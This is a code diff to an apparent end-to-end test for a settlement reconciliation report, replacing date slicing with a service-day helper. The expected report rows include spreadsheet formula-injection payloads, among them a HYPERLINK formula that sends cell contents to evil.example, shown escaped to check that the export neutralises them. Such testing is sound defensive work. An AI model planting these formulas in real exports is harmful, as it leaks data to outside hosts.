@@ -11,6 +11,7 @@ import { startWorker } from '../../src/worker';
 import { adminBrowser, type AdminBrowser } from '../support/admin-browser';
 import { signUp, startBillingServer } from '../support/billing';
 import type { TestServer } from '../support/test-server';
+import { serviceDayOf } from '../support/service-day';
 
 const HEADER = 'reference,msisdn,amount,currency,status,charged_at';
 
@@ -118,10 +119,10 @@ describe('settlement in the back office: upload, poll, report, download', () => 
     });
     // Other charges of today in the template are absent from the file too.
     expect(reconciled.summary!.missing_there).toBeGreaterThanOrEqual(1);
-    expect(reconciled.covered_from).toBe(now.slice(0, 10));
-    expect(reconciled.covered_to).toBe(now.slice(0, 10));
+    expect(reconciled.covered_from).toBe(serviceDayOf(now));
+    expect(reconciled.covered_to).toBe(serviceDayOf(now));
     expect(reconciled.totals).toContainEqual({
-      day: now.slice(0, 10),
+      day: serviceDayOf(now),
       group: 'missing_here',
       currency: matched!.currency,
       lines: 1,
@@ -221,7 +222,7 @@ describe('settlement in the back office: upload, poll, report, download', () => 
     expect(done.status).toBe('done');
     const report = await admin.api.call('adminDownloadSettlementReport', { params: { id: done.id } });
     const rows = (await report.text()).split('\n').filter((row) => row.startsWith('missing_here,'));
-    const day = now.slice(0, 10);
+    const day = serviceDayOf(now);
     expect(rows).toEqual([
       `missing_here,2,${day},"'=HYPERLINK(""https://evil.example/?d=""&A1,""open"")",967770000002,50.00,,${currency},charged,`,
       `missing_here,3,${day},'@SUM(1+1),967770000003,50.00,,${currency},charged,`,
